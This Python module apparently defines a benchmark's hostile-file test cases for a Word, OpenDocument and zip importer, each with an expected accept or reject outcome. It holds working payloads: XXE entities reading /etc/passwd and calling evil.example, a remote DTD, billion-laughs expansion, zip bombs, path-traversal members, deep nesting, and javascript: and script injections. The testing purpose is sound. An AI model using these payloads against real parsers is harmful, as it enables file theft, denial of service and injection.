"""Word, OpenDocument and zip files that are cut off, lie, explode, or reach out."""

from __future__ import annotations

from functools import partial

from benchmarks.corpus.hostile.file import STORY, Asked, HostileFile
from benchmarks.corpus.hostile.packages import (
    bomb,
    broken_checksum,
    crowd,
    cut,
    docx,
    encrypted,
    lying,
    nested_zip,
    odt,
    opened,
    word,
    zipped,
)

_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
)
_XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://evil.example/x">]>'
_REMOTE_DTD = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'
_DEEP = 10_000


def _page(body: str) -> str:
    return f"<!DOCTYPE html><html><body><h1>Chapter 3: The Lamp</h1>{body}<p>{STORY}</p></body></html>"


_IN_WORD = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
_NESTED_WORD = "<w:sdt><w:sdtContent>" * _DEEP + "<w:p/>" + "</w:sdtContent></w:sdt>" * _DEEP
_NESTED_TABLES = "<w:tbl><w:tr><w:tc>" * _DEEP + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * _DEEP
_NESTED_OPEN = "<text:section>" * _DEEP + "<text:p/>" + "</text:section>" * _DEEP
_NESTED_SPANS = "<text:p>" + "<text:span>" * _DEEP + "x" + "</text:span>" * _DEEP + "</text:p>"
_REMOTE_PICTURE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    'Target="http://evil.example/p.png" TargetMode="External"/></Relationships>'
)
_LINK_THAT_RUNS = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "javascript:alert(1)"</w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>One.</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_HIDDEN = (
    "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden words</w:t></w:r>"
    "<w:del><w:r><w:delText>deleted words</w:delText></w:r></w:del><w:r><w:t>Seen.</w:t></w:r></w:p>"
)
_HARM = ("root:x:0", "evil.example")

CONTAINERS: tuple[HostileFile, ...] = (
    HostileFile("plain.docx", docx, Asked.ACCEPT, has=("The Lamp", "You should go home")),
    HostileFile("plain.odt", odt, Asked.ACCEPT, has=("The Lamp", "You should go home")),
    HostileFile("word_called_text.txt", docx, Asked.ACCEPT, has=("You should go home",)),
    HostileFile("cut_in_half.docx", lambda: cut(docx(), 0.5), Asked.REJECT),
    HostileFile("cut_at_the_end.docx", lambda: cut(docx(), 0.95), Asked.REJECT),
    HostileFile("cut_in_half.odt", lambda: cut(odt(), 0.5), Asked.REJECT),
    HostileFile("only_mark.zip", lambda: b"PK\3\4", Asked.REJECT),
    HostileFile("no_members.zip", lambda: zipped({}), Asked.REJECT),
    HostileFile("lying_size.docx", partial(lying, 100), Asked.REJECT),
    HostileFile("lying_no_size.docx", partial(lying, 0), Asked.REJECT),
    HostileFile("bomb.docx", partial(bomb, docx, 400), Asked.REJECT),
    HostileFile("bomb.odt", partial(bomb, odt, 400), Asked.REJECT),
    HostileFile("bomb_of_prose.docx", lambda: docx(word(_IN_WORD.format("word " * 60) * 60_000)), Asked.REJECT),
    HostileFile(
        "bomb_of_styles.docx", lambda: docx(None, {"word/styles.xml": b"<a>" + b" " * (300 << 20)}), Asked.EITHER
    ),
    HostileFile("bomb.zip", lambda: zipped({"chapter.html": b"<p>" + b" " * (400 << 20)}), Asked.REJECT),
    HostileFile("members_5000.docx", partial(crowd, docx, 5000), Asked.EITHER),
    HostileFile("members_5000.odt", partial(crowd, odt, 5000), Asked.EITHER),
    HostileFile("members_5000.zip", lambda: zipped({f"{n}.html": _page("") for n in range(5000)}), Asked.EITHER),
    HostileFile("encrypted.docx", encrypted, Asked.REJECT),
    HostileFile("broken_checksum.docx", broken_checksum, Asked.REJECT),
    HostileFile("xxe.docx", lambda: docx(word(_IN_WORD.format("&a;&b;"), _XXE)), Asked.EITHER, lacks=_HARM),
    HostileFile("xxe.odt", lambda: odt(opened("<text:p>&a;&b;</text:p>", _XXE)), Asked.EITHER, lacks=_HARM),
    HostileFile("remote_dtd.docx", lambda: docx(word("", _REMOTE_DTD)), Asked.EITHER, lacks=_HARM),
    HostileFile("remote_dtd.odt", lambda: odt(opened("", _REMOTE_DTD)), Asked.EITHER, lacks=_HARM),
    HostileFile("laughs.docx", lambda: docx(word(_IN_WORD.format("&a11;"), _LAUGHS)), Asked.REJECT),
    HostileFile("laughs.odt", lambda: odt(opened("<text:p>&a11;</text:p>", _LAUGHS)), Asked.REJECT),
    HostileFile(
        "laughs_in_styles.docx", lambda: docx(None, {"word/styles.xml": f"{_LAUGHS}<a>&a11;</a>"}), Asked.EITHER
    ),
    HostileFile(
        "no_document.docx", lambda: zipped({"[Content_Types].xml": "<Types/>", "word/other.xml": "<a/>"}), Asked.REJECT
    ),
    HostileFile(
        "no_content.odt", lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), Asked.REJECT
    ),
    HostileFile("no_xml.docx", lambda: docx("this is no XML <<<"), Asked.REJECT),
    HostileFile("no_xml.odt", lambda: odt(b"\0\1\2\3"), Asked.REJECT),
    HostileFile("empty_body.docx", lambda: docx(word().partition("<w:body>")[0] + "</w:document>"), Asked.REJECT),
    HostileFile("nested_controls.docx", lambda: docx(word(_NESTED_WORD)), Asked.EITHER),
    HostileFile("nested_tables.docx", lambda: docx(word(_NESTED_TABLES)), Asked.EITHER),
    HostileFile("nested_sections.odt", lambda: odt(opened(_NESTED_OPEN)), Asked.EITHER),
    HostileFile("nested_spans.odt", lambda: odt(opened(_NESTED_SPANS)), Asked.EITHER),
    HostileFile(
        "repeated_spaces.odt", lambda: odt(opened('<text:p>a<text:s text:c="2000000000"/>b</text:p>')), Asked.EITHER
    ),
    HostileFile(
        "repeated_no_number.odt", lambda: odt(opened('<text:p>a<text:s text:c="many"/>b</text:p>')), Asked.EITHER
    ),
    HostileFile("outside_path.docx", lambda: docx(None, {"../../ran": b"x"}), Asked.EITHER),
    HostileFile("outside_path.zip", lambda: zipped({"../../ran.html": _page("")}), Asked.EITHER),
    HostileFile(
        "remote_picture.docx",
        lambda: docx(None, {"word/_rels/document.xml.rels": _REMOTE_PICTURE}),
        Asked.EITHER,
        lacks=_HARM,
    ),
    HostileFile(
        "link_that_runs.docx",
        lambda: docx(word(_LINK_THAT_RUNS)),
        Asked.EITHER,
        lacks=("javascript:",),
    ),
    HostileFile(
        "hidden_and_deleted.docx",
        lambda: docx(word(_HIDDEN)),
        Asked.ACCEPT,
        has=("Seen.",),
        lacks=("hidden words", "deleted words"),
    ),
    HostileFile(
        "markup_as_words.docx",
        lambda: docx(word(_IN_WORD.format("&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }}"))),
        Asked.ACCEPT,
        has=("{{ 7*7 }}",),
    ),
    HostileFile(
        "pages.pages", lambda: zipped({"Index/Document.iwa": b"x", "preview.jpg": b"x"}), Asked.REJECT, has=("Pages",)
    ),
    HostileFile(
        "book.epub",
        lambda: zipped({"mimetype": "application/epub+zip", "META-INF/container.xml": "<a/>"}),
        Asked.REJECT,
    ),
    HostileFile(
        "spreadsheet.xlsx", lambda: zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<a/>"}), Asked.REJECT
    ),
    HostileFile("no_page.zip", lambda: zipped({"notes.bin": b"\0\1", "x.exe": b"MZ"}), Asked.REJECT),
    HostileFile("zip_in_zip.zip", partial(nested_zip, 6), Asked.EITHER),
    HostileFile(
        "active.zip",
        lambda: zipped({"chapter.html": _page('<script>alert(1)</script><img src="https://evil.example/p">')}),
        Asked.ACCEPT,
        has=("You should go home",),
        lacks=("alert(", "evil.example"),
    ),
)
